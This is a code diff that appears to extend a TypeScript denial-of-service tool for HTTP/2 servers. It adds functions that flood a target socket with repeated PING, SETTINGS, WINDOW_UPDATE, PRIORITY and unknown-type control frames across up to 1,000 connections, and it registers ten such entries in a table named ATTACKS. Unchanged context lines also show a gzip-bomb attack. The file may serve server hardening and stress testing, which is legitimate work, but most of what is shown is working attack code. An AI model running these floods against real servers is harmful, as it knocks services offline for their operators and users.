@@ -167,6 +167,32 @@ async function call(
   return stream;
 }
 
+/** As many frames as there may be, of a kind that belongs to no call, on many connections. */
+function control({ socket }: Target, ...one: readonly Buffer[]): Promise<void> {
+  const some = Buffer.concat(Array.from({ length: 20 }, () => one).flat());
+  return onConnections(
+    1_000,
+    () => new Raw(socket),
+    (raw) => raw.write(some),
+  );
+}
+
+/** The same, as fast as a few connections can. */
+function controlFast({ socket }: Target, ...one: readonly Buffer[]): Promise<void> {
+  const many = Buffer.concat(Array.from({ length: 4_000 }, () => one).flat());
+  return onConnections(
+    4,
+    () => new Raw(socket),
+    (raw) => raw.write(many),
+  );
+}
+
+const PING = frame(FrameType.PING, 0, 0, Buffer.alloc(8));
+const SETTINGS = frame(FrameType.SETTINGS, 0, 0);
+const WINDOW_UPDATE = frame(FrameType.WINDOW_UPDATE, 0, 0, uint32(1));
+const PRIORITY = frame(FrameType.PRIORITY, 0, 1, Buffer.alloc(5));
+const UNKNOWN = frame(0x77, 0, 0);
+
 /** In turn on some connections, until the program is ended. */
 async function onConnections(count: number, raw: () => Raw, attack: (raw: Raw) => Promise<unknown>): Promise<void> {
   const one = async () => {
@@ -239,6 +265,16 @@ const ATTACKS: Readonly<Record<string, (target: Target) => Promise<void>>> = {
         await raw.write(callHeaders(raw.stream, STREAM), dataFrames(raw.stream - 2, begun));
       },
     ),
+  pings: (target) => control(target, PING),
+  pingsFast: (target) => controlFast(target, PING),
+  settings: (target) => control(target, SETTINGS),
+  settingsFast: (target) => controlFast(target, SETTINGS),
+  windows: (target) => control(target, WINDOW_UPDATE),
+  windowsFast: (target) => controlFast(target, WINDOW_UPDATE),
+  priorities: (target) => control(target, PRIORITY),
+  prioritiesFast: (target) => controlFast(target, PRIORITY),
+  unknown: (target) => control(target, UNKNOWN),
+  unknownFast: (target) => controlFast(target, UNKNOWN),
   /** Small messages that would inflate to the largest that there may be. */
   async gzip({ socket }) {
     const bomb = gzipSync(Buffer.alloc(1024 * 1024));
